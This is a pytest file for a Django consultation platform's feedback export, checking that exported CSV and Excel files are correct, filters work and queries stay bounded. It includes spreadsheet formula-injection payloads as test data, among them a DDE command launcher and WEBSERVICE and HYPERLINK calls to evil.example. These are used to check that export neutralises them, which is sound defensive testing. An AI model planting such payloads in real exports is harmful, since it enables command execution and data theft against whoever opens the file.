"""Feedback export: the CSV and the Excel file read back column by column, the filters, the page and its counts."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from discussions.secretariat.export import COLUMNS, HEADERS, TOPIC_COLUMNS
from hub.spreadsheets import neutralise
from discussions.models import Comment
from hub.jobs.models import Job
from tests.discussions.secretariat.conftest import start_export
from hub.models import StakeholderGroup
from tests.factories import make_priority, make_user, make_working_group

pytestmark = pytest.mark.django_db

BASE = "http://testserver"


@pytest.fixture
def nairobi(settings):
    # An offset that is not zero, so "with offset" is really tested.
    settings.TIME_ZONE = "Africa/Nairobi"


@pytest.fixture
def known(nairobi, known):
    """The known set (conftest.py), read in Nairobi time."""
    return known


def expected_rows(k) -> dict[int, dict[str, object]]:
    """Every column of every known comment, written out by hand (not computed by the code under test)."""
    url = f"{BASE}/discussions/draft-workplan/"
    q1 = "Does the workplan capture a comprehensive plan?"
    q2 = "Which priority areas interest your entity?"
    np1 = "NP1 A limited set of indicators to review progress"
    op3 = "OP3 Alternatives to immigration detention"
    base = {"Discussion": "Draft Network Workplan 2022-2024", "Parent id": "", "Depth": "0", "In reply to": "",
            "Badge": "", "Decline or hide reason": "", "Working groups": "", "Attachments": "", "Highlighted": "no",
            "Edits": "0", "Moderated by": "", "Moderated at": "", "Response": "", "Response rationale": "",
            "Language": ""}
    rows = {
        k.arabic.pk: {**base, "Comment id": str(k.arabic.pk), "Permalink": f"{url}#comment-{k.arabic.pk}",
                      "Question number": "1", "Question": q1, "Author (as shown)": "ليلى حداد",
                      "Personal name": "ليلى حداد", "Organisation": "منظمة الهجرة",
                      "Stakeholder group": "Migrant-led organisation", "Country": "الأردن",
                      "Posted at": "2024-09-15T13:30:00+03:00", "Status": "Published", "Priorities": op3,
                      "Comment (plain text)": "نص عربي\n- أولاً\n- ثانياً",
                      "Comment (HTML)": "<p>نص عربي</p><ul><li>أولاً</li><li>ثانياً</li></ul>"},
        k.chinese.pk: {**base, "Comment id": str(k.chinese.pk), "Permalink": f"{url}#comment-{k.chinese.pk}",
                       "Question number": "2", "Question": q2, "Author (as shown)": "王小明",
                       "Personal name": "王小明", "Organisation": "中国移民研究中心", "Stakeholder group": "Academia",
                       "Country": "China", "Posted at": "2024-09-16T14:00:00+03:00", "Status": "Published",
                       "Priorities": np1, "Comment (plain text)": "中文评论 🌍🚀",
                       "Comment (HTML)": "<p>中文评论 🌍🚀</p>"},
        k.quoted.pk: {**base, "Comment id": str(k.quoted.pk), "Permalink": f"{url}#comment-{k.quoted.pk}",
                      "Question number": "1", "Question": q1, "Author (as shown)": 'Richard "Rick" Francis-O\'Brien',
                      "Personal name": 'Richard "Rick" Francis-O\'Brien', "Organisation": "UN Network on Migration",
                      "Stakeholder group": "UN entity", "Country": "Switzerland", "Badge": "UN Network",
                      "Posted at": "2024-09-17T15:00:00+03:00", "Status": "Published",
                      "Priorities": f"{np1}\n{op3}", "Working groups": "Working group on detention",
                      "Comment (plain text)": 'He said "yes", and \'no\'; fine.\nLine one\nline two\n1. One\n2. Two',
                      "Comment (HTML)": k.quoted.body,
                      "Attachments": f"position paper.pdf {BASE}/discussions/files/{k.attachment.pk}/",
                      "Highlighted": "yes", "Edits": "2", "Moderated by": "Maria Moderator",
                      "Moderated at": "2024-09-16T11:00:00+03:00", "Response": "Partly taken up",
                      "Response rationale": "'=Covered in OP3; see annex"},
        k.formula.pk: {**base, "Comment id": str(k.formula.pk), "Permalink": f"{url}#comment-{k.formula.pk}",
                       "Question number": "1", "Question": q1, "Parent id": str(k.quoted.pk), "Depth": "1",
                       "In reply to": 'Richard "Rick" Francis-O\'Brien',
                       # Attributed to the organisation only: that is the name shown; the person is still known.
                       "Author (as shown)": "'+SUM(A1:A2)", "Personal name": "'=HYPERLINK(\"http://x\")",
                       "Organisation": "'+SUM(A1:A2)", "Stakeholder group": "Member State", "Country": "'@cmd",
                       "Badge": "'-1", "Posted at": "2024-09-18T12:15:00+03:00", "Status": "Published",
                       "Priorities": "", "Comment (plain text)": "'=1+1", "Comment (HTML)": "<p>=1+1</p>"},
        k.general.pk: {**base, "Comment id": str(k.general.pk), "Permalink": f"{url}#comment-{k.general.pk}",
                       "Question number": "", "Question": "", "Author (as shown)": "Tab Person",
                       "Personal name": "Tab Person", "Organisation": "'\tTabbed Org",
                       "Stakeholder group": "Civil society", "Country": "Kenya",
                       "Posted at": "2024-09-19T12:00:00+03:00", "Status": "Published", "Priorities": "",
                       "Comment (plain text)": "General remark", "Comment (HTML)": "<p>General remark</p>"},
        k.declined.pk: {**base, "Comment id": str(k.declined.pk), "Permalink": f"{url}#comment-{k.declined.pk}",
                        "Question number": "2", "Question": q2, "Author (as shown)": "Declined Author",
                        "Personal name": "Declined Author", "Organisation": "Some NGO",
                        "Stakeholder group": "Civil society", "Country": "Kenya",
                        "Posted at": "2024-09-20T12:00:00+03:00", "Status": "Declined",
                        "Decline or hide reason": "Off topic", "Priorities": "", "Moderated by": "Maria Moderator",
                        "Moderated at": "2024-09-16T11:00:00+03:00", "Comment (plain text)": "A comment.",
                        "Comment (HTML)": "<p>A comment.</p>"},
    }
    for row in rows.values():
        assert set(row) == set(HEADERS), set(HEADERS) ^ set(row)
    return rows


def read_csv(response) -> tuple[bytes, list[dict[str, str]], list[str]]:
    raw = b"".join(response.streaming_content)
    text = raw.decode("utf-8-sig")
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    return raw, [dict(zip(header, row)) for row in reader], header


def test_the_columns_are_in_the_documented_order():
    assert HEADERS == (
        "Comment id", "Permalink", "Discussion", "Question number", "Question", "Parent id", "Depth", "In reply to",
        "Author (as shown)", "Personal name", "Organisation", "Stakeholder group", "Country", "Badge", "Posted at",
        "Status", "Decline or hide reason", "Priorities", "Working groups", "Comment (plain text)",
        "Comment (HTML)", "Attachments", "Highlighted", "Edits", "Moderated by", "Moderated at", "Response",
        "Response rationale", "Language")


def test_the_csv_reads_back_with_every_column_of_the_published_comments(known, secretariat_client, export_download):
    response = export_download(secretariat_client, "csv",
                                      {"discussion": known.discussion.pk})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="feedback-')
    raw, rows, header = read_csv(response)
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert tuple(header) == HEADERS
    expected = expected_rows(known)
    assert [row["Comment id"] for row in rows] == [str(c.pk) for c in known.published]
    for row in rows:
        assert row == expected[int(row["Comment id"])]


def test_the_csv_with_every_status_includes_the_declined_comment_and_its_reason(known, secretariat_client, export_download):
    response = export_download(secretariat_client, "csv",
                                      {"discussion": known.discussion.pk, "status": "all"})
    _, rows, _ = read_csv(response)
    expected = expected_rows(known)
    assert len(rows) == 6
    for row in rows:
        assert row == expected[int(row["Comment id"])]


def test_the_csv_for_excel_starts_with_a_byte_order_mark(known, secretariat_client, export_download):
    response = export_download(secretariat_client, "csv-bom")
    raw, rows, header = read_csv(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert tuple(header) == HEADERS
    assert len(rows) == 5
    # The two CSV variants download under different names.
    assert response["Content-Disposition"].startswith('attachment; filename="feedback-for-excel-')
    plain = export_download(secretariat_client, "csv")
    assert 'filename="feedback-2' in plain["Content-Disposition"]


def test_line_breaks_and_quotes_survive_the_csv_quoting(known, secretariat_client, export_download):
    response = export_download(secretariat_client, "csv")
    raw, rows, _ = read_csv(response)
    text = raw.decode("utf-8")
    # Quotes are doubled inside a quoted cell, and line breaks stay inside it.
    assert '"Richard ""Rick"" Francis-O\'Brien"' in text
    row = next(r for r in rows if r["Comment id"] == str(known.quoted.pk))
    assert row["Comment (plain text)"].count("\n") == 4


def test_the_excel_workbook_reads_back_with_every_column(known, secretariat_client, tmp_path, export_download):
    response = export_download(secretariat_client, "xlsx",
                                      {"discussion": known.discussion.pk, "status": "all"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    path = tmp_path / "feedback.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    assert sheet.title == "All comments"
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == HEADERS
    expected = expected_rows(known)
    assert len(values) == 7
    for row in values[1:]:
        as_text = {h: "" if v is None else str(v) for h, v in zip(HEADERS, row)}
        assert as_text == expected[int(as_text["Comment id"])]
    # Nothing is stored as a formula, even where the text starts with "=".
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"


def test_the_excel_workbook_has_sheets_per_question_and_priority_interest_and_summary(known, secretariat_client,
                                                                                        tmp_path, export_download):
    from workplan.models import InterestExpression

    InterestExpression.objects.create(working_group=known.group, organisation=make_user().profile.organisation,
                                      message="=We would like to join", role=InterestExpression.Role.MEMBER)
    response = export_download(secretariat_client, "xlsx",
                                      {"discussion": known.discussion.pk})
    path = tmp_path / "feedback.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    workbook = load_workbook(path)
    assert workbook.sheetnames == [
        "All comments", "Q1 Does the workplan capture a", "Q2 Which priority areas interes",
        "NP1 A limited set of indicators", "OP3 Alternatives to immigration",
        "Interest in working groups", "Summary"]
    ids = lambda name: [row[0] for row in workbook[name].iter_rows(min_row=2, values_only=True)]  # noqa: E731
    assert ids("Q1 Does the workplan capture a") == [known.arabic.pk, known.quoted.pk, known.formula.pk]
    assert ids("Q2 Which priority areas interes") == [known.chinese.pk]
    assert ids("NP1 A limited set of indicators") == [known.chinese.pk, known.quoted.pk]
    assert ids("OP3 Alternatives to immigration") == [known.arabic.pk, known.quoted.pk]
    topic = list(workbook["OP3 Alternatives to immigration"].iter_rows(values_only=True))
    assert topic[0] == tuple(c.header for c in TOPIC_COLUMNS)
    assert topic[2][TOPIC_COLUMNS.index(next(c for c in TOPIC_COLUMNS if c.key == "response"))] == "Partly taken up"
    interest = list(workbook["Interest in working groups"].iter_rows(values_only=True))
    assert interest[1][0] == "Working group on detention"
    assert interest[1][6] == "'=We would like to join"
    summary = {(row[0], row[1]): row[2] for row in workbook["Summary"].iter_rows(min_row=2, values_only=True)}
    assert summary[("Total", "Comments")] == 5
    assert summary[("Question", "Q1 Does the workplan capture a comprehensive plan?")] == 3
    assert summary[("Question", "General comments (no question)")] == 1
    assert summary[("Priority", "NP1 A limited set of indicators to review progress")] == 2
    assert summary[("Stakeholder group", "Civil society")] == 1
    # Frozen header, widths, wrapped long text.
    sheet = workbook["All comments"]
    assert sheet.freeze_panes == "A2"
    body_letter = "T"
    assert COLUMNS[19].key == "body_text"
    # 80 characters as Excel shows it: the file stores the width with Excel's few pixels of cell padding.
    assert int(sheet.column_dimensions[body_letter].width) == 80
    assert sheet[f"{body_letter}2"].alignment.wrap_text is True
    assert sheet["A1"].font.bold is True


def test_neutralise_prefixes_every_formula_start_and_leaves_the_rest():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise(f"{start}x") == f"'{start}x"
    assert neutralise("plain") == "plain"
    assert neutralise("a =not at start") == "a =not at start"
    # Blanks before the formula do not hide it (hub/spreadsheets.py; tests/hub/test_spreadsheets.py for the rest).
    assert neutralise(" =after a space") == "' =after a space"
    assert neutralise(42) == 42
    assert neutralise("") == ""


def test_the_filters_select_by_priority_question_group_stakeholder_organisation_status_and_date(
        known, secretariat_client, make_export_discussion, make_export_comment):
    url = reverse("discussions:secretariat-export-count")

    def count(**params):
        response = secretariat_client.get(url, params)
        assert response.status_code == 200, response.content
        return response.json()["count"]

    assert count() == 5
    assert count(status="all") == 6
    assert count(status="declined") == 1
    assert count(priority=known.np1.pk) == 2
    assert count(priority=known.op3.pk) == 2
    assert count(question=known.q1.pk) == 3
    assert count(working_group=known.group.pk) == 1
    assert count(stakeholder_group=StakeholderGroup.ACADEMIA) == 1
    assert count(organisation="منظمة الهجرة") == 1
    # Nairobi dates: the Arabic comment (13:30 on the 15th) through the quoted one (the 17th).
    assert count(date_from="2024-09-15", date_to="2024-09-17") == 3
    assert count(date_from="2024-09-18") == 2
    other = make_export_discussion()
    make_export_comment(other)
    assert count() == 6
    assert count(discussion=other.pk) == 1
    assert count(discussion=[other.pk, known.discussion.pk]) == 6
    response = secretariat_client.get(url, {"date_from": "2024-09-20", "date_to": "2024-09-01"})
    assert response.status_code == 400


def test_the_export_page_shows_how_many_comments_match_before_downloading(known, secretariat_client):
    response = secretariat_client.get(reverse("discussions:secretariat-export"),
                                      {"priority": known.np1.pk, "status": "published"})
    assert response.status_code == 200
    content = response.content.decode()
    assert "2 comments match." in content
    assert f'action="/discussions/secretariat/export/start/?priority={known.np1.pk}&amp;status=published"' in content
    response = secretariat_client.get(reverse("discussions:secretariat-export"))
    assert "5 comments match." in response.content.decode()


def test_a_download_with_invalid_filters_returns_to_the_page(known, secretariat_client):
    response = start_export(secretariat_client, "csv", {"priority": "999999"})
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("discussions:secretariat-export"))
    assert not Job.objects.exists()
    response = start_export(secretariat_client, "pdf")
    assert response["Location"].startswith(reverse("discussions:secretariat-export"))
    assert not Job.objects.exists()


def test_the_attachments_zip_names_each_file_after_its_comment(known, secretariat_client, export_download):
    response = export_download(secretariat_client, "attachments",
                                      {"discussion": known.discussion.pk})
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    name = f"comment-{known.quoted.pk}/{known.attachment.pk}-position_paper.pdf"
    assert sorted(archive.namelist()) == ["attachments.csv", name]
    assert archive.read(name) == b"%PDF-1.4 test"
    index = list(csv.reader(io.StringIO(archive.read("attachments.csv").decode("utf-8-sig"))))
    assert index[1][:4] == [name, "position paper.pdf", str(known.quoted.pk),
                            f"{BASE}/discussions/draft-workplan/#comment-{known.quoted.pk}"]


def test_the_json_bundle_needs_exactly_one_discussion_and_holds_it(known, secretariat_client, export_download):
    refused = start_export(secretariat_client, "bundle")
    assert refused.status_code == 302 and refused["Location"].startswith(reverse("discussions:secretariat-export"))
    assert not Job.objects.exists()
    response = export_download(secretariat_client, "bundle", {"discussion": known.discussion.pk})
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    assert "consultation.json" in archive.namelist()


def test_the_personal_name_column_is_empty_for_an_export_without_that_right(known):
    from discussions.secretariat.export import ExportOptions, RowBuilder
    from discussions.secretariat.selectors import ExportFilters, iterate_comments

    filters = ExportFilters(discussion_ids=(known.discussion.pk,))
    builder = RowBuilder(filters, ExportOptions(base_url=BASE, include_personal_names=False))
    index = HEADERS.index("Personal name")
    assert {builder.row(c)[index] for c in iterate_comments(filters)} == {""}


def test_long_and_control_characters_are_made_safe_for_excel(secretariat_client, tmp_path, make_export_discussion,
                                                            make_export_comment, export_download):
    discussion = make_export_discussion()
    comment = make_export_comment(discussion, body="<p>x</p>")
    Comment.objects.filter(pk=comment.pk).update(body_text="bell\x07 " + "a" * 40_000)
    response = export_download(secretariat_client, "xlsx")
    path = tmp_path / "f.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    cell = load_workbook(path).worksheets[0]["T2"].value
    assert cell.startswith("bell a")
    assert len(cell) == 32_767
    assert cell.endswith(" […]")


@pytest.fixture
def page_data(make_export_discussion, make_export_question, make_comments):
    """A function making a discussion with `size` comments, a question, a priority and a working group."""
    return lambda size: _page_data(size, make_export_discussion, make_export_question, make_comments)


def _page_data(size: int, make_export_discussion, make_export_question, make_comments):
    discussion = make_export_discussion()
    question = make_export_question(discussion)
    priority = make_priority(workplan=discussion.workplan)
    make_working_group(workplan=discussion.workplan)
    make_comments(discussion, size, priorities=[priority], question=question)
    return discussion


# Session, user, two for permissions (has_perm), profile (site context), then the page's own: organisation
# choices, the chosen discussions (validation), the count, and the choices of discussion, question, priority and
# working group as the form renders.
# And the person's recent export jobs (one query).
EXPORT_PAGE_QUERIES = 14


@pytest.mark.parametrize("size", [1, 50])
def test_the_export_page_takes_a_fixed_number_of_queries(secretariat_client, django_assert_num_queries, size,
                                                         page_data):
    discussion = page_data(size)
    url = reverse("discussions:secretariat-export")
    with django_assert_num_queries(EXPORT_PAGE_QUERIES):
        response = secretariat_client.get(url, {"discussion": discussion.pk})
    assert f"{size} comment" in response.content.decode()


# The export's job, run as the worker runs it: lock the job and mark it running (four, with the savepoint); the
# owner and their permissions (three), organisation choices (validating the filters) and the count for the bar,
# then discussions, questions, priorities and working groups (looked up per row from memory), the comments, and one
# query each for the chunk's priority links, working group links and attachments (per chunk of 2,000 rows, so a
# larger export adds three queries per 2,000 comments, never per comment); the first progress write (the others are
# at most every half second) and the finished job.
CSV_JOB_QUERIES = 19
# The download: session, user, the job, two for permissions, the profile (the audit entry's name) and the entry.
DOWNLOAD_QUERIES = 7


@pytest.mark.parametrize("size", [1, 50])
def test_the_csv_export_takes_a_fixed_number_of_queries(secretariat_client, django_assert_num_queries, size,
                                                        page_data, django_capture_on_commit_callbacks, monkeypatch):
    from hub.jobs import registry

    monkeypatch.setattr(registry, "PROGRESS_INTERVAL", 3600)  # one progress write, however slow the machine
    page_data(size)
    with django_capture_on_commit_callbacks() as callbacks:
        start_export(secretariat_client, "csv")
    job = Job.objects.get()
    with django_assert_num_queries(CSV_JOB_QUERIES):
        for callback in callbacks:
            callback()
    with django_assert_num_queries(DOWNLOAD_QUERIES):
        response = secretariat_client.get(reverse("jobs:download", kwargs={"pk": job.pk}))
        _, rows, _ = read_csv(response)
    assert len(rows) == size


# --- Hostile cells (issue 9): a formula hidden behind a control character, a blank or a separator -----------------

HOSTILE = {
    "control": "\x01=HYPERLINK(\"http://evil.example\",\"Click\")",
    "tab": "\t=1+1",
    "space": " =cmd|' /C calc'!A0",
    "separator": "Agreed;=WEBSERVICE(\"http://evil.example/?\"&A1)",
}


@pytest.fixture
def hostile_comment(make_export_comment):
    def make(discussion, value: str) -> Comment:
        comment = make_export_comment(discussion, body="<p>x</p>")
        # Written straight to the columns: the snapshot of a profile, or an imported comment, can hold anything.
        Comment.objects.filter(pk=comment.pk).update(author_name=value, author_organisation=value, body_text=value)
        return comment

    return make


def _hostile_interest(group, value: str):
    from workplan.models import InterestExpression

    interest = InterestExpression.objects.create(working_group=group, organisation=make_user().profile.organisation,
                                                 message="x", role=InterestExpression.Role.MEMBER)
    InterestExpression.objects.filter(pk=interest.pk).update(message=value)
    return interest


def _starts_no_formula(text: str) -> None:
    from hub.spreadsheets import is_formula

    assert not is_formula(text), repr(text)


@pytest.mark.parametrize("kind", HOSTILE)
def test_no_hidden_formula_reaches_the_csv_in_any_cell_however_the_line_is_split(secretariat_client, kind,
                                                                                  make_export_discussion,
                                                                                  hostile_comment, export_download):
    value = HOSTILE[kind]
    discussion = make_export_discussion()
    comment = hostile_comment(discussion, value)
    _, rows, _ = read_csv(export_download(secretariat_client, "csv"))
    (row,) = rows
    for column in ("Author (as shown)", "Personal name", "Organisation", "Comment (plain text)"):
        cell = row[column]
        assert cell.startswith("'") or kind == "separator", (column, cell)
        # Read by a program that splits on another separator than ours, no piece starts a formula either.
        for separator in ";,\t":
            for piece in cell.split(separator):
                _starts_no_formula(piece)
    assert row["Comment id"] == str(comment.pk)


@pytest.mark.parametrize("kind", HOSTILE)
def test_no_cell_of_the_excel_workbook_is_a_formula_and_hidden_ones_are_neutralised(secretariat_client, tmp_path,
                                                                                    kind, make_export_discussion,
                                                                                    hostile_comment, export_download):
    value = HOSTILE[kind]
    discussion = make_export_discussion()
    hostile_comment(discussion, value)
    _hostile_interest(make_working_group(workplan=discussion.workplan), value)
    response = export_download(secretariat_client, "xlsx")
    path = tmp_path / "f.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    workbook = load_workbook(path)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    _starts_no_formula(cell.value)
    comments = workbook["All comments"]
    header = [c.value for c in comments[1]]
    row = {h: c.value for h, c in zip(header, comments[2])}
    expected = "'" + value.lstrip("\x01") if kind != "separator" else value
    for column in ("Author (as shown)", "Personal name", "Organisation", "Comment (plain text)"):
        assert row[column] == expected, column
    interest = list(workbook["Interest in working groups"].iter_rows(values_only=True))
    assert interest[1][6] == expected



def test_the_excel_writer_stores_text_as_text_even_if_nothing_neutralised_it(tmp_path):
    """A second guard, independent of neutralise(): text that a spreadsheet would read as a formula or an error is
    written with the string type."""
    from discussions.secretariat.export import Column, _Workbook

    path = tmp_path / "s.xlsx"
    book = _Workbook(str(path))
    sheet = book.sheet("S", (Column("a", "A", 10), Column("b", "B", 10, True), Column("c", "C", 10)))
    sheet.append(["=1+1", "=2+2", "#N/A"])
    sheet.append(["=3+3", 5, "=4+4"])
    sheet.append(["plain", "text", 7])
    sheet.append(["{=SUM(A1:A2)}", "http://example.org", "1e5"])
    book.close()
    rows = list(load_workbook(path)["S"].iter_rows(min_row=2))
    assert [[c.value for c in row] for row in rows] == [["=1+1", "=2+2", "#N/A"], ["=3+3", 5, "=4+4"],
                                                        ["plain", "text", 7],
                                                        ["{=SUM(A1:A2)}", "http://example.org", "1e5"]]
    assert [[c.data_type for c in row] for row in rows] == [["s", "s", "s"], ["s", "n", "s"], ["s", "s", "n"],
                                                            ["s", "s", "s"]]
    assert not load_workbook(path)["S"]._hyperlinks


def test_the_attachments_index_neutralises_hidden_formulas_too(secretariat_client, make_export_discussion,
                                                               make_export_attachment, hostile_comment, export_download):
    discussion = make_export_discussion()
    comment = hostile_comment(discussion, HOSTILE["control"])
    make_export_attachment(comment, name="\x01=cmd;=1.pdf")
    response = export_download(secretariat_client, "attachments")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    index = list(csv.reader(io.StringIO(archive.read("attachments.csv").decode("utf-8-sig"))))
    assert index[1][1] == "'=cmd;'=1.pdf"
    assert index[1][4] == "'=HYPERLINK(\"http://evil.example\",\"Click\")"


# --- The JSON bundle on the export page: the page's selection, no e-mail addresses -----------------------------------


def _bundle(response) -> dict:
    import json

    assert response.status_code == 200, response
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    return json.loads(archive.read("consultation.json"))


def test_the_pages_json_bundle_holds_no_email_address_of_anyone(known, secretariat_client, export_download):
    author = make_user(email="leila.private@example.org")
    Comment.objects.filter(pk=known.arabic.pk).update(author=author)
    known.discussion.moderators.add(make_user(email="mod.private@example.org"))
    response = export_download(secretariat_client, "bundle",
                                      {"discussion": known.discussion.pk, "status": "all"})
    raw = b"".join(response.streaming_content)
    archive = zipfile.ZipFile(io.BytesIO(raw))
    text = archive.read("consultation.json").decode()
    assert "@example.org" not in text and '"email"' not in text
    assert "leila.private" not in text and "mod.private" not in text


def test_the_pages_json_bundle_holds_only_the_comments_the_filters_select(known, secretariat_client, export_download):
    data = _bundle(export_download(secretariat_client, "bundle", {"discussion": known.discussion.pk}))
    # Published only, as the page's default says: the declined comment is not in it.
    assert sorted(c["id"] for c in data["comments"]) == sorted(f"c{c.pk}" for c in known.published)
    assert {c["status"] for c in data["comments"]} == {"published"}

    data = _bundle(export_download(secretariat_client, "bundle", {"discussion": known.discussion.pk, "status": "declined"}))
    assert [c["id"] for c in data["comments"]] == [f"c{known.declined.pk}"]

    data = _bundle(export_download(secretariat_client, "bundle", {"discussion": known.discussion.pk, "priority": known.np1.pk}))
    assert [c["id"] for c in data["comments"]] == [f"c{known.chinese.pk}", f"c{known.quoted.pk}"]
    # Only the selected comments' attachments.
    data = _bundle(export_download(secretariat_client, "bundle", {"discussion": known.discussion.pk, "question": known.q2.pk}))
    assert [c["id"] for c in data["comments"]] == [f"c{known.chinese.pk}"]
    assert all(not c["attachments"] for c in data["comments"])


def test_a_reply_whose_parent_is_filtered_out_is_listed_on_its_question_and_the_bundle_imports(
        known, secretariat_client, tmp_path, export_download):
    from discussions.interchange import check_consultation_bundle

    # The formula comment replies to the quoted one, which NP1 selects and the stakeholder filter leaves out.
    response = export_download(secretariat_client, "bundle", {
        "discussion": known.discussion.pk, "stakeholder_group": StakeholderGroup.MEMBER_STATE})
    raw = b"".join(response.streaming_content)
    data = _bundle_from(raw)
    (reply,) = data["comments"]
    assert reply["id"] == f"c{known.formula.pk}"
    assert (reply["parent"], reply["question"]) == (None, f"q{known.q1.pk}")
    path = tmp_path / "b.zip"
    path.write_bytes(raw)
    check_consultation_bundle(path)  # the format's rules hold: it raises otherwise


def _bundle_from(raw: bytes) -> dict:
    import json

    return json.loads(zipfile.ZipFile(io.BytesIO(raw)).read("consultation.json"))


def test_the_export_page_says_what_the_json_bundle_holds(known, secretariat_client):
    content = secretariat_client.get(reverse("discussions:secretariat-export"),
                                     {"discussion": known.discussion.pk}).content.decode()
    assert "the comments matching these filters" in content
    assert "It holds no e-mail addresses." in content


# --- Very large numbers in the filters (issue 9): the filter is refused, never a 500 ---------------------------------

HUGE = "9" * 30


@pytest.mark.parametrize("field", ["discussion", "priority", "question", "working_group"])
def test_a_huge_number_in_a_filter_is_refused_with_a_clear_answer_not_a_server_error(known, secretariat_client,
                                                                                     field):
    secretariat_client.raise_request_exception = False
    count = secretariat_client.get(reverse("discussions:secretariat-export-count"), {field: HUGE})
    assert count.status_code == 400
    assert field in count.json()["errors"]
    page = secretariat_client.get(reverse("discussions:secretariat-export"), {field: HUGE})
    assert page.status_code == 200
    assert "Correct the filters to see how many comments match." in page.content.decode()
    download = start_export(secretariat_client, "csv", {field: HUGE})
    assert download.status_code == 302
    assert not Job.objects.exists()


@pytest.mark.parametrize("value", [HUGE, "-" + HUGE, "1e400", "0", "abc"])
def test_a_huge_or_odd_priority_on_the_response_table_shows_every_comment(known, secretariat_client, value):
    secretariat_client.raise_request_exception = False
    response = secretariat_client.get(reverse("discussions:secretariat-responses",
                                              kwargs={"slug": known.discussion.slug}), {"priority": value})
    assert response.status_code == 200
    assert f"response-{known.arabic.pk}" in response.content.decode()


# --- A comment known only by its affiliation badge (issue 9) ---------------------------------------------------------


def test_a_comment_known_only_by_its_badge_is_attributed_to_the_badge_in_the_exports(secretariat_client, tmp_path,
                                                                                     make_export_discussion,
                                                                                     make_export_comment, export_download):
    discussion = make_export_discussion()
    parent = make_export_comment(discussion, author_name="", author_organisation="", author_badge="UN Network",
                                 show_personal_name=False)
    make_export_comment(discussion, parent=parent, author_name="Replier")
    _, rows, _ = read_csv(export_download(secretariat_client, "csv"))
    assert rows[0]["Author (as shown)"] == "UN Network" and rows[0]["Badge"] == "UN Network"
    assert rows[0]["Personal name"] == "" and rows[0]["Organisation"] == ""
    assert rows[1]["In reply to"] == "UN Network"


# --- The export's job: its page, the recent exports, a selection that went away ------------------------------------


def test_the_job_page_reports_the_export_and_links_back_to_the_same_filters(known, secretariat_client,
                                                                            export_download):
    export_download(secretariat_client, "xlsx", {"discussion": known.discussion.pk, "status": "all"})
    job = Job.objects.get()
    assert job.params["format"] == "xlsx" and job.owner.has_perm("discussions.export_feedback")
    assert (job.done, job.total) == (6, 6)
    page = secretariat_client.get(job.get_absolute_url()).content.decode()
    assert "Feedback export" in page and "6 of 6 rows" in page
    assert "<dt class=\"col-sm-4\">Format</dt><dd class=\"col-sm-8\">Excel workbook (.xlsx)</dd>" in page
    assert "<dt class=\"col-sm-4\">Comments</dt><dd class=\"col-sm-8\">6</dd>" in page
    assert (f'href="/discussions/secretariat/export/?discussion={known.discussion.pk}&amp;status=all">'
            "Back to the export page (same filters)</a>") in page


def test_an_export_whose_discussion_was_deleted_meanwhile_fails_with_a_clear_message(
        known, secretariat_client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks() as callbacks:
        start_export(secretariat_client, "csv", {"discussion": known.discussion.pk})
    known.discussion.delete()
    for callback in callbacks:
        callback()
    job = Job.objects.get()
    assert job.status == Job.Status.FAILED
    assert job.error == "The filters no longer match what is on the site. Start the export again."
    assert "The filters no longer match" in secretariat_client.get(job.get_absolute_url()).content.decode()


def test_an_export_is_refused_when_it_runs_if_the_right_was_withdrawn_while_it_waited(
        known, secretariat_client, secretary, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks() as callbacks:
        start_export(secretariat_client, "csv")
    secretary.groups.clear()
    for callback in callbacks:
        callback()
    job = Job.objects.get()
    assert (job.status, job.error, bool(job.file)) == (Job.Status.FAILED, "Only the secretariat can export feedback.",
                                                       False)


def test_pressing_export_again_and_again_is_refused_past_three_waiting_jobs_with_a_message(
        known, secretariat_client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False):  # no worker picks them up
        for _ in range(3):
            assert start_export(secretariat_client, "xlsx")["Location"].startswith("/jobs/")
        response = start_export(secretariat_client, "xlsx", {"status": "all"})
    assert response["Location"] == reverse("discussions:secretariat-export") + "?status=all"
    page = secretariat_client.get(response["Location"]).content.decode()
    assert "You already have 3 jobs waiting or running." in page
    assert Job.objects.count() == 3


@pytest.mark.parametrize("size", [1, 50])
def test_the_export_page_lists_the_recent_exports_in_a_fixed_number_of_queries(
        secretariat_client, secretary, django_assert_num_queries, size, page_data):
    from discussions.secretariat.jobs import KIND

    discussion = page_data(1)
    Job.objects.bulk_create([Job(kind=KIND, owner=secretary, filename=f"feedback-{n}.csv", status=Job.Status.DONE)
                             for n in range(size)])
    Job.objects.create(kind=KIND, owner=make_user(role="Secretariat"), filename="someone-else.csv")
    with django_assert_num_queries(EXPORT_PAGE_QUERIES):
        response = secretariat_client.get(reverse("discussions:secretariat-export"), {"discussion": discussion.pk})
    content = response.content.decode()
    assert "Your recent exports" in content
    assert content.count('<li class="mb-1">') == min(size, 10)
    assert "someone-else.csv" not in content
